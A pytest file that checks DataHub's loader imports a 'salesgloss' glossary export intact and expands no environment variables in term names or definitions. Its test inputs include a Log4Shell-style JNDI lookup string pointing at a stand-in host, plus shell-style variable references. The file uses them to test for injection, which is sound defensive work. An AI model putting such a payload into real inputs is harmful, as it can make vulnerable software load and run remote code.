"""DataHub's own loader reads its export: every term as it is, and none that is not ours."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.exchange.hostile import PLAIN, PUBLICATION

from salesgloss.exchange.publication import Publication
from salesgloss.text import visible

TERM = "urn:li:glossaryTerm:salesgloss."
EXPANSIONS = (
    "${HOME}",
    "a ${",
    "$HOME",
    "$500 a call",
    "\\${A} \\ $B",
    "${jndi:ldap://evil.invalid}",
)


@pytest.fixture
def ingest(export: Callable[..., Path], tmp_path: Path) -> Callable[[Publication], Any]:
    """Return ``ingest(publication)``, what the loader made of its export."""
    interpreter = os.environ.get("SALESGLOSS_DATAHUB")
    assert interpreter, "SALESGLOSS_DATAHUB must name a Python that has DataHub's library"
    program = Path(__file__).with_name("datahub_ingest.py")

    def ingest(publication: Publication) -> Any:
        glossary = export(publication, "datahub").rename(tmp_path / "glossary.yaml")
        done = subprocess.run(
            [interpreter, program, glossary, tmp_path / "events.json"],
            capture_output=True,
            env={**os.environ, "DATAHUB_TELEMETRY_ENABLED": "false"},
            check=True,
        )
        return json.loads(done.stdout)

    return ingest


def test_every_term_arrives_and_every_relation_leads_to_one(published, ingest) -> None:
    loaded = ingest(published)
    assert set(loaded["mentioned"]) == set(loaded["entities"])
    for term in published.terms:
        aspects = loaded["entities"][TERM + term.id]
        assert aspects["GlossaryTermInfo"]["name"] == visible(term.title("en"))
        assert aspects["GlossaryTermInfo"]["definition"] == visible(term.text("en"))
        related = aspects.get("GlossaryRelatedTerms", {}).get("relatedTerms", [])
        known = [id for id in term.related if any(each.id == id for each in published.terms)]
        assert related == [TERM + id for id in known]
        if term.owner:
            owners = aspects["Ownership"]["owners"]
            assert [each["owner"] for each in owners] == [f"urn:li:corpuser:{term.owner}"]


def test_nothing_of_the_environment_is_put_into_a_text(ingest) -> None:
    terms = tuple(
        replace(PLAIN, id=f"term-{number}", name=text, definition=text, related=("term-0",))
        for number, text in enumerate(EXPANSIONS)
    )
    loaded = ingest(replace(PUBLICATION, terms=terms))
    for term in terms:
        aspects = loaded["entities"][TERM + term.id]
        assert aspects["GlossaryTermInfo"]["definition"].lstrip() == term.definition
        assert aspects["GlossaryTermInfo"]["name"].lstrip() == term.name
        assert aspects["GlossaryRelatedTerms"]["relatedTerms"] == [f"{TERM}term-0"]
